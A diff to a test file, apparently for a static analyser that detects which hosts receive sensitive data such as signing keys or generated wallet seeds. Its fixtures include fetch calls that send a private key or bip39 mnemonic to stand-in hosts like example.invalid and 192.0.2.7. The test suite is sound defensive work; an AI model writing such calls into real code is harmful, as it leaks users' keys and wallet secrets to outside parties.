@@ -48,6 +48,17 @@ it('tells apart what functions do', async () => {
   expect(after).not.toBe(before);
 });
 
+it('tells apart which member a function reads, and not what else stands in its file', async () => {
+  const sends = (member: string): string => PROGRAM.replace('body: text', `body: text.${member}`);
+  const [before] = await ends({ 'a.js': sends('public') });
+  const [after] = await ends({ 'a.js': sends('secret') });
+  expect(after?.split(' ')[1]).toBe('post');
+  expect(after).not.toBe(before);
+  expect(await ends({ 'a.js': `const other = ['a', 'b'].length; exports.other = other;\n${sends('public')}` })).toEqual(
+    [before],
+  );
+});
+
 it('calls what runs in no function by its file alone', async () => {
   const [found] = await ends({
     'a.js': `const seed = require('bip39').generateMnemonic(); fetch('https://example.invalid/' + seed);`,
@@ -76,8 +87,10 @@ it.each([
   [`fetch('https://user:word@API.example.invalid:8443/x?y', { body: key })`, ['api.example.invalid']],
   [`fetch('//cdn.example.invalid', { body: key })`, ['cdn.example.invalid']],
   [`require('https').request({ host: 'a.example.invalid', headers: { 'x-id': key } })`, ['a.example.invalid']],
-  [`fetch('https://192.0.2.7/' + key)`, []],
+  [`fetch('https://192.0.2.7/' + key)`, ['192.0.2.7']],
+  [`const base = 'https://b.example.invalid/' + message; fetch(base + '/send', { body: key })`, ['b.example.invalid']],
   [`fetch('https://192.0.2.7/', { body: key })`, ['192.0.2.7']],
+  [`fetch('https://a.invalid/' + message, { body: key, b: '//b.invalid', c: '//c.invalid', d: '//d.invalid' })`, ['*']],
   [`fetch(address, { body: key, headers: { 'x-file': 'index.js', accept: 'application/vnd.api+json' } })`, []],
 ])('says which hosts a call is given as text: %s', async (send, expected) => {
   const text = `exports.sign = (key, message, address) => { require('@noble/secp256k1').sign(message, key); ${send}; };`;
